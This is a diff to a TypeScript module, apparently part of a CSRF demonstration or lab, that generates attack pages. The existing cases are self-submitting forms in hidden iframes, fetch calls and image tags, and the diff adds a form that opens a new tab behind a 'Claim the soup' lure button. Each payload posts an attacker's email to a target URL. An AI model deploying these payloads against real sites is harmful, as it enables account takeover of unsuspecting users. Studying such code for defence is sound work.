@@ -11,6 +11,11 @@ export function attackOn(way: Attack, url: string, frame: string): string {
 </form>
 <iframe name="${frame}" hidden></iframe>
 <script>document.forms[document.forms.length - 1].submit()</script>`
+    case 'tab':
+      return `<form method="post" action="${url}" target="_blank">
+  <input type="hidden" name="email" value="${thief}">
+  <button>Claim the ${prizeOf(frame)}</button>
+</form>`
     case 'fetch':
       return `<script>
 fetch('${url}', {
@@ -37,6 +42,13 @@ fetch('${url}', {
     case 'image':
       return `<img src="${url}?email=${thief}" alt="">`
   }
+}
+
+/** What each of the three doors seems to give away. */
+const prizes = ['soup', 'bread', 'tea']
+
+function prizeOf(frame: string): string {
+  return prizes[Number(frame.split('-')[1] ?? 0)] ?? 'soup'
 }
 
 /** A page that looks harmless, and sends something to each door. */
